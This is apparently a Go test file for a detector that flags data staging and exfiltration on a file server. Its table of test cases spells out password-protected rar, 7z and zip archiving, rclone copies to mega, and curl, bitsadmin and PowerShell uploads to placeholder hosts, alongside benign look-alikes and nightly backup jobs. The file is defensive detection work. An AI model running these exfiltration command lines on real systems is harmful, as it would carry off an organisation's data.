package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"netcase"
)

// packing is one command on a file server.
func packing(at netcase.Time, path, line string) netcase.Process {
	return netcase.Process{
		Time: monday + at, Host: netcase.Endpoint{Name: "files-1"}, Role: netcase.RoleStarted, Action: "ProcessCreated", Path: path, Image: baseName(path),
		CommandLine: line, Account: `CORP\admin`, Parent: "powershell.exe", Sensor: "edr",
	}
}

// TestStagingCommands: what packs, gathers or carries off, and what only looks like it.
func TestStagingCommands(t *testing.T) {
	for _, c := range []struct{ image, line, want string }{
		{"rar.exe", `rar.exe a -hpSecret -m5 C:\ProgramData\a.rar D:\Finance\*`, stagedSecret.name},
		{"rar.exe", `rar.exe a C:\ProgramData\a.rar D:\Finance`, stagedPack.name},
		{"rar.exe", `rar.exe x C:\Users\a\a.rar`, ""},
		{"winrar.exe", `"C:\Program Files\WinRAR\WinRAR.exe" x -iext -- a.zip C:\x\`, ""},
		{"7z.exe", `7z.exe a -pX -mhe=on x.7z D:\Finance`, stagedSecret.name},
		{"7za.exe", `7za a x.7z D:\Finance`, stagedPack.name},
		{"7z.exe", `7z.exe x x.7z`, ""},
		{"7z.exe", `7z.exe l x.7z`, ""},
		{"tar", `tar czf /tmp/x.tgz /srv/data`, stagedPack.name},
		{"tar", `tar -C /srv -c -z -f /tmp/x.tgz data`, stagedPack.name},
		{"tar", `tar xzf /tmp/x.tgz`, ""},
		{"tar", `tar -C /opt -xf x.tar`, ""},
		{"zip", `zip -r -P s x.zip data`, stagedSecret.name},
		{"zip", `zip -r x.zip data`, stagedPack.name},
		{"zip", `zip -T x.zip data`, ""},
		{"makecab.exe", `makecab /D x /F list.ddf`, stagedPack.name},
		{"powershell.exe", `powershell -c Compress-Archive D:\Finance C:\ProgramData\x.zip`, stagedPack.name},
		{"powershell.exe", `powershell -c Expand-Archive x.zip`, ""},
		{"powershell.exe", `powershell -c "(New-Object Net.WebClient).UploadFile('http://x.example/u','a.zip')"`, stagedCarry.name},
		{"rclone.exe", `rclone.exe copy C:\ProgramData\a.rar mega:x --transfers 8`, stagedCarry.name},
		{"rclone.exe", `rclone.exe copy --transfers 8 D:\Finance mega:x`, stagedCarry.name},
		{"rclone.exe", `rclone.exe copy mega:x D:\Restore`, ""},
		{"rclone.exe", `rclone.exe lsd mega:`, ""},
		{"aws", `aws s3 cp big.tar s3://bucket/x --profile p`, stagedCarry.name},
		{"aws", `aws s3 cp s3://bucket/x .`, ""},
		{"curl", `curl -T a.rar https://transfer.example/a`, stagedCarry.name},
		{"curl", `curl -f https://example.com/healthz`, ""},
		{"curl", `curl -F file=@a.rar https://x.example`, stagedCarry.name},
		{"scp", `scp a.tgz user@host:/tmp/`, stagedCarry.name},
		{"scp", `scp user@host:/tmp/a .`, ""},
		{"bitsadmin.exe", `bitsadmin /transfer job /upload https://x.example/a a.rar`, stagedCarry.name},
		{"robocopy.exe", `robocopy D:\Finance C:\ProgramData\x /E`, stagedGather.name},
		{"robocopy.exe", `robocopy D:\Finance E:\Mirror /MIR`, ""},
		{"msedge.exe", `msedge.exe a b`, ""},
		{"rar.exe", ``, ""},
	} {
		if kind, _ := stagedByCommand(c.image, c.line); kind.name != c.want {
			t.Errorf("%s: %q, want %q", c.line, kind.name, c.want)
		}
	}
}

func staged(t *testing.T, list ...netcase.Process) []netcase.Finding {
	t.Helper()
	w := newTraffic()
	w.batch.Processes = list
	return w.processes(t, staging())
}

// TestStagingAttack: two archives with a password and the program that carries them off.
func TestStagingAttack(t *testing.T) {
	found := staged(t,
		packing(netcase.Hour, `C:\ProgramData\rar.exe`, `rar.exe a -hpSecret C:\ProgramData\a1.rar D:\Finance\*`),
		packing(netcase.Hour+netcase.Minute, `C:\ProgramData\rar.exe`, `rar.exe a -hpSecret C:\ProgramData\a2.rar D:\Finance\*`),
		packing(2*netcase.Hour, `C:\ProgramData\rclone.exe`, `rclone copy C:\ProgramData\a1.rar mega:x`))
	if len(found) != 2 || found[0].Process.Decibans != weightMasquerade || found[0].Process.Events != 2 || !slices.Contains(found[0].Technique, "T1560.001") ||
		found[1].Process.Decibans != weightOwner || len(found[0].Evidence[0].Records) == 0 {
		t.Fatalf("%d findings: %+v", len(found), found)
	}
}

// TestStagingJob: what runs every night is a job, before the span that is looked at too;
// the same at odd hours is none.
func TestStagingJob(t *testing.T) {
	nights := func(hour func(day int) netcase.Time) (list []netcase.Process) {
		for day := range 5 {
			list = append(list, packing(netcase.Time(day)*netcase.Day+hour(day), `C:\Backup\7z.exe`, fmt.Sprintf(`7z.exe a -pX E:\backup-%d.7z D:\Data`, 20250101+day)))
		}
		return list
	}
	if found := staged(t, nights(func(int) netcase.Time { return 2 * netcase.Hour })...); len(found) != 0 {
		t.Errorf("a nightly job: %s", found[0].Title)
	}
	if found := staged(t, nights(func(day int) netcase.Time { return netcase.Time(23+day%2) % 24 * netcase.Hour })...); len(found) != 0 {
		t.Errorf("a job around midnight: %s", found[0].Title)
	}
	if found := staged(t, nights(func(day int) netcase.Time { return netcase.Time(4*day) * netcase.Hour })...); len(found) != 1 {
		t.Errorf("at odd hours: %d findings", len(found))
	}
	if found := staged(t, nights(func(int) netcase.Time { return 2 * netcase.Hour })[3:]...); len(found) != 1 {
		t.Errorf("two nights are no schedule: %d findings", len(found))
	}
}

// TestStagingFiles: archives and many files in folders that everybody may write to; a
// browser's downloads, a program's own folder and few files are not.
func TestStagingFiles(t *testing.T) {
	wrote := func(image, target string, at netcase.Time) netcase.Process {
		p := packing(at, `C:\x\`+image, "")
		p.Role, p.Target = netcase.RoleWrote, target
		return p
	}
	many := func(n int, folder string, gap netcase.Time) (list []netcase.Process) {
		for i := range n {
			list = append(list, wrote("cmd.exe", fmt.Sprintf(`%s\f%d.docx`, folder, i), netcase.Time(i)*gap))
		}
		return list
	}
	for _, c := range []struct {
		name string
		list []netcase.Process
		want string
	}{
		{"an archive in a public folder", []netcase.Process{wrote("cmd.exe", `C:\Users\Public\x.rar`, 0)}, stagedFile.name},
		{"a download", []netcase.Process{wrote("msedge.exe", `C:\Users\Public\x.zip`, 0)}, ""},
		{"an archive at home", []netcase.Process{wrote("cmd.exe", `C:\Users\a\Documents\x.zip`, 0)}, ""},
		{"many files", many(DefaultStagingConfig().Files, `C:\ProgramData\x`, netcase.Second), stagedMany.name},
		{"one fewer", many(DefaultStagingConfig().Files-1, `C:\ProgramData\x`, netcase.Second), ""},
		{"many files, slowly", many(2*DefaultStagingConfig().Files, `C:\ProgramData\x`, 2*netcase.Minute), ""},
		{"many files of a user", many(2*DefaultStagingConfig().Files, `C:\Users\a\Documents`, netcase.Second), ""},
	} {
		found := staged(t, c.list...)
		if got := strings.Join(titlesOf(found), " "); len(found) > 1 || c.want == "" != (len(found) == 0) || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func titlesOf(found []netcase.Finding) (out []string) {
	for _, f := range found {
		out = append(out, f.Title)
	}
	return out
}

// TestStagingQuiet: an ordinary day of a file server.
func TestStagingQuiet(t *testing.T) {
	var list []netcase.Process
	for i := range 300 {
		list = append(list, packing(netcase.Time(i)*netcase.Minute, svchostPath, properLine),
			packing(netcase.Time(i)*netcase.Minute, `C:\Program Files\7-Zip\7z.exe`, `7z.exe x update.7z`))
	}
	if found := staged(t, list...); len(found) != 0 {
		t.Errorf("%d findings, the first: %s", len(found), found[0].Title)
	}
}

// TestStagingMetamorphic: the order of records and other hosts change nothing; the name of
// the archive splits no finding, the name of the host does.
func TestStagingMetamorphic(t *testing.T) {
	var list []netcase.Process
	for i := range 6 {
		list = append(list, packing(netcase.Time(i)*netcase.Minute, `C:\ProgramData\rar.exe`, fmt.Sprintf(`rar.exe a C:\ProgramData\a%d.rar D:\Finance`, i)))
	}
	want := staged(t, list...)
	turned := slices.Clone(list)
	slices.Reverse(turned)
	if got := staged(t, turned...); len(want) != 1 || len(got) != 1 || got[0].Evidence[0].Statement != want[0].Evidence[0].Statement {
		t.Errorf("the order shows: %d and %d findings", len(want), len(got))
	}
	other := slices.Clone(list)
	for i := range other {
		other[i].Host.Name = "files-2"
	}
	if got := staged(t, append(other, list...)...); len(got) != 2 {
		t.Errorf("two hosts: %d findings", len(got))
	}
}
